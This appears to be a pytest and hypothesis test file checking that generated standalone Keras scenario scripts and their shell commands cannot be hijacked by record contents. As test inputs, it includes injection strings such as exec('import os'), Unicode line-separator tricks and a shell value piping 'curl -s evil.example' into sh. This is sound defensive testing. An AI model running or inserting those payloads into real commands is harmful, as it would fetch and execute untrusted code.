"""Scenarios as scripts that stand alone."""

from __future__ import annotations

import ast
import io
import subprocess
import tokenize
from pathlib import Path
from typing import TYPE_CHECKING, cast

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from harness import discovery
from reports.pages.standalone_script import command, script
from reports.reading.records import Scenario

if TYPE_CHECKING:
    from collections.abc import Callable

    from reports.reading.records import Mode

ROOT = Path(__file__).parents[2]
ALL = discovery.discover([str(ROOT / "scenarios"), str(ROOT / "scenarios" / "more")])
HOSTILE = "title\nimport os; os.abort() # \x00"
SOURCE = "def b(keras): ...\n"
texts = st.text(st.characters(exclude_categories=["Cs"]))
"""What a line of JSON can hold."""
words = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"))
"""What a variable can hold."""


def _recorded(scenario: discovery.Scenario) -> Scenario:
    fields = ("id", "title", "description", "file", "line", "source", "digest")
    return Scenario(**{name: getattr(scenario, name) for name in fields})


def _written(scenario: discovery.Scenario) -> str:
    return script(_recorded(scenario), cast("tuple[Mode, ...]", scenario.modes))


def _script(name: str) -> str:
    (found,) = (each for each in ALL if each.id == name)
    return _written(found)


@pytest.fixture(scope="module")
def trees() -> dict[str, ast.Module]:
    """Read every script as the oldest stack reads it."""
    return {each.id: ast.parse(_written(each), each.id, feature_version=(3, 7)) for each in ALL}


def test_every_scenario_stands_alone(trees: dict[str, ast.Module]) -> None:
    """No script may need the project."""
    for name, tree in trees.items():
        modules = {node.module for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
        assert not [each for each in modules if each and each.startswith("scenarios")], name


def test_no_name_of_a_scenario_is_one_of_the_frame(trees: dict[str, ast.Module]) -> None:
    """The later of two functions of one name would take the place of the other."""
    for name, tree in trees.items():
        functions = [node.name for node in tree.body if isinstance(node, ast.FunctionDef)]
        assert len(functions) == len(set(functions)), name


def test_a_title_stays_in_its_comment() -> None:
    """A record from anywhere must not run what its title says."""
    recorded = Scenario("a.b", HOSTILE, "", "a.py", 1, "def b(keras): ...\n", "d")

    assert "import os" not in {ast.unparse(each) for each in ast.parse(script(recorded, ("predict",))).body}


def _read_by_python(text: str) -> str:
    """Parse a script as its bytes would be, and write down what it does."""
    return ast.unparse(ast.parse(text.encode()))


@given(title=texts, id_=texts, file=texts)
@example(title="t\rimport os\x0cimport os\u2028import os\x85import os\x1eimport os", id_="a.b", file="a.py")
@example(title="t", id_="a.b\nexec('import os')", file="a.py")
@example(title="t", id_="a.b = exec('import os')", file="a.py")
@example(title="t", id_="a.b", file="a.py\rimport os")
@example(title="coding: utf-7 +AAo-import os", id_="a.b", file="a.py")
def test_nothing_that_a_record_says_of_a_scenario_becomes_code(title: str, id_: str, file: str) -> None:
    """But its text, which is code: a name is a literal, a title and a file stay in their comments."""
    usual = _read_by_python(script(Scenario("a.b", "t", "", "a.py", 1, SOURCE, "d"), ("predict",)))
    told = _read_by_python(script(Scenario(id_, title, "", file, 1, SOURCE, "d"), ("predict",)))

    function = id_.rpartition(".")[2]
    assert told == usual.replace("globals()['b']", f"globals()[{function!r}]")


@given(texts, st.sampled_from(["predict", "train"]))
def test_no_comment_of_a_script_has_a_character_that_cannot_be_seen(title: str, mode: Mode) -> None:
    """One that turns the order of the others round shows a reader another comment than is there."""
    lines = script(Scenario("a.b", title, "", "a.py", 1, SOURCE, "d"), (mode,)).encode()

    comments = [each.string for each in tokenize.tokenize(io.BytesIO(lines).readline) if each.type == tokenize.COMMENT]
    assert all(each.isprintable() for each in comments)


def test_a_comment_of_the_text_stays_a_comment() -> None:
    """A separator that Python does not take for the end of a line must not become one."""
    text = "def b(keras): ...  # one\u2028import os\x0cimport os\x1eimport os\n"
    recorded = Scenario("a.b", "t", "", "a.py", 1, text, "d")

    assert "os" not in {
        node.names[0].name for node in ast.parse(script(recorded, ("predict",))).body if isinstance(node, ast.Import)
    }


@given(imported_as=words, variables=st.dictionaries(words, words))
@example(imported_as="$(id)", variables={"A": "1; curl -s evil.example | sh", "B": "$(id)", "C;id;D": "1"})
@example(imported_as="a\n::error::", variables={"A": "it's\r\u202e"})
def test_a_shell_takes_the_command_for_words_and_nothing_else(imported_as: str, variables: dict[str, str]) -> None:
    """Whatever a record has for the name of Keras and for the variables."""
    recorded = Scenario("a.b", "t", "", "a.py", 1, SOURCE, "d")

    line = command(recorded, "predict", imported_as, variables.items())

    assert line.isprintable()
    *settings, _python, _file, _mode, _name = _of_bash(line)
    named = {name: value for name, value in variables.items() if name.isidentifier() and name.isascii()}
    assert settings == [f"{name}={value}" for name, value in named.items()]
    assert (_python, _file, _mode, _name) == ("python", "a.b.py", "predict", imported_as or "keras")


def _of_bash(line: str) -> list[str]:
    """Have bash itself write each word on a line of its own."""
    shown = f"each() {{ printf '%s\\0' \"$@\"; }}; each {line}"
    done = subprocess.run(["/bin/bash", "-c", shown], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"})
    return done.stdout.decode().split("\0")[:-1]


def test_a_helper_that_is_not_there_is_left_as_an_import() -> None:
    """A user's own helper is not the project's to copy."""
    recorded = Scenario("a.b", "t", "", "a.py", 1, "from mine import helper\n\ndef b(keras): ...\n", "d")

    assert "from mine import helper" in script(recorded, ("predict",))


def test_what_runs_a_file_as_a_program_is_left_out() -> None:
    """The script has a program of its own."""
    text = "def b(keras): ...\n\nif __name__ == '__main__':\n    import os\n    os.abort()\n"
    recorded = Scenario("a.b", "t", "", "a.py", 1, text, "d")

    assert "os.abort" not in script(recorded, ("predict",))


@pytest.mark.stack
@pytest.mark.parametrize(
    ("stack", "mask"), [("tf-2.15", "[[1, 0, 0, 0]]"), ("tf-2.21", "[[1, 1, 1, 0]]")], ids=["tf-2.15", "tf-2.21"]
)
def test_a_script_shows_on_real_stacks_what_changed(
    stack: str, mask: str, python_of: Callable[[str], Path], tmp_path: Path
) -> None:
    """The mask after Concatenate: timesteps that both inputs leave unmasked, and then those that any of them does."""
    file = tmp_path / "alone.py"
    file.write_text(_script("concatenate.masks_disagree"), encoding="utf-8")

    words = [str(python_of(stack)), str(file), "predict", "tf.keras"]
    ended = subprocess.run(words, cwd=tmp_path, capture_output=True, text=True, check=False, timeout=280)

    assert ended.returncode == 0, ended.stderr
    assert f"    concat: received [[1, 1, 0, 0]] and [[1, 0, 1, 0]], put out {mask}\n" in ended.stdout
    assert "output 1: [[[0.235854, 0.0136]" in ended.stdout
